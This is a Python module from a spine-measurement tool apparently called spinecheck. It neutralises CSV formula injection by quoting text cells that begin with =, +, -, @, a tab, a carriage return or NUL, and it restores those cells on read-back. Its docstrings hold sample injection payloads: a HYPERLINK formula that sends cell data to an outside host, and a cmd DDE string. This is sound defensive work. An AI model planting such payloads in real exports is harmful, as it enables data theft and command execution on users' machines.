r"""CSV cells a spreadsheet would run as a formula, neutralised (CSV injection).

A researcher opens spinecheck's tables in a spreadsheet. A text cell that begins with
``=``, ``+``, ``-`` or ``@`` (or a tab, a carriage return or a NUL) is read there as a formula,
and a file named ``=HYPERLINK("http://x/?"&A1,"click").png`` would then run in their
spreadsheet. Every CSV spinecheck writes (the batch table, ``measure --format csv``, the
follow-up series, the instability table, the wide landmark CSV) passes its cells through
:func:`neutralise_cell`, which follows OWASP's rule: such a cell gets a leading single
quote ``'``, which spreadsheets take as "this is text" and do not show. The characters are
those of the OWASP CSV Injection page (``= + - @``, tab, carriage return) and of OWASP
ASVS 5.0 requirement 1.2.10, which adds the NUL character.

Numbers are left alone: a cell that is a plain decimal number (``-12.5``, ``+3``,
``-1.5e-07``) is data, not a formula, and a negative SVA must stay a number. So are cells
made of plus and minus signs only, the SRS–Schwab grades ``+`` and ``++`` of the published
table format (formats.md): with no operand, function or reference there is nothing to run,
and every reader of the table keeps reading the grades it knows. Only text cells change
(file names, paths, notes, errors, warnings, identifiers).

The rule is reversible, so that spinecheck reads back what it wrote (a batch that
resumes its table, the wide CSV, :func:`spinecheck.read_batch_table`): :func:`restore_cell`
removes the quote. A text that itself begins with quotes before such a character gets one
more, so that every text survives the round trip.

Parquet files hold the text as it is: they are typed tables, and no spreadsheet
evaluates their strings as formulas.

References
----------
OWASP Foundation. CSV Injection. https://owasp.org/www-community/attacks/CSV_Injection

OWASP Application Security Verification Standard 5.0, V1.2.10 (CSV and formula injection).

Examples
--------
>>> neutralise_cell("=1+2"), neutralise_cell("-12.5"), neutralise_cell("-x.png")
("'=1+2", '-12.5', "'-x.png")
>>> print(csv_text([["image", "SVA_mm"], ["@evil.png", "-12.5"]]), end="")
image,SVA_mm
'@evil.png,-12.5
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable

__all__ = ["FORMULA_STARTS", "neutralise_cell", "restore_cell", "csv_text"]

#: The first characters that make a spreadsheet read a cell as a formula (OWASP, CSV Injection).
FORMULA_STARTS = frozenset("=+-@\t\r\0")

# what stays as it is although it starts with a sign: a decimal number, or signs only (a grade)
_DATA = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?|[+-]+")


def _starts_formula(text: str) -> bool:
    """Whether *text* after any leading quotes begins like a formula."""
    rest = text.lstrip("'")
    return bool(rest) and rest[0] in FORMULA_STARTS


def neutralise_cell(text: str) -> str:
    r"""*text* as a CSV cell that no spreadsheet runs as a formula.

    Parameters
    ----------
    text : str
        A cell as spinecheck would write it.

    Returns
    -------
    str
        *text* with a leading ``'`` when it begins with ``=``, ``+``, ``-``,
        ``@``, a tab, a carriage return or a NUL and is neither a plain decimal number
        nor signs only (``+``, ``++``: a grade), or
        when it begins with quotes before one of those (so that
        :func:`restore_cell` gives back exactly *text*); otherwise *text*.

    Examples
    --------
    >>> [neutralise_cell(c) for c in ["", "x.png", "+3", "-1.5e-07", "++", "+cmd|' /C calc'!A0", "\tx", "'=a"]]
    ['', 'x.png', '+3', '-1.5e-07', '++', "'+cmd|' /C calc'!A0", "'\tx", "''=a"]
    """
    if _starts_formula(text) and not _DATA.fullmatch(text):
        return "'" + text
    return text


def restore_cell(text: str) -> str:
    """The text :func:`neutralise_cell` was given, from the cell it wrote.

    Examples
    --------
    >>> [restore_cell(neutralise_cell(c)) for c in ["=a", "'=a", "''@b", "-12.5", "'quoted", "x"]]
    ['=a', "'=a", "''@b", '-12.5', "'quoted", 'x']
    """
    if text.startswith("'") and _starts_formula(text):
        return text[1:]
    return text


def csv_text(rows: Iterable[Iterable[object]]) -> str:
    r"""The CSV text of *rows*, every cell neutralised (:func:`neutralise_cell`), lines ended by ``\n``.

    Parameters
    ----------
    rows : iterable of iterables
        The cells; each is written as ``str(cell)`` (None as an empty cell).

    Returns
    -------
    str
        Quoted as :mod:`csv` quotes (a cell holding a comma, a quote or a line
        end). A row with a carriage return in a cell is quoted whole: with
        ``\n`` as the line end, :mod:`csv` would leave that cell bare and a
        reader would see two lines.

    Examples
    --------
    >>> csv_text([["a", 1.5], ["x\ry", -2]])
    'a,1.5\n"x\ry","-2"\n'
    """
    buf = io.StringIO()
    minimal = csv.writer(buf, lineterminator="\n")
    whole = csv.writer(buf, lineterminator="\n", quoting=csv.QUOTE_ALL)
    for row in rows:
        cells = [neutralise_cell("" if c is None else str(c)) for c in row]
        (whole if any("\r" in c for c in cells) else minimal).writerow(cells)
    return buf.getvalue()
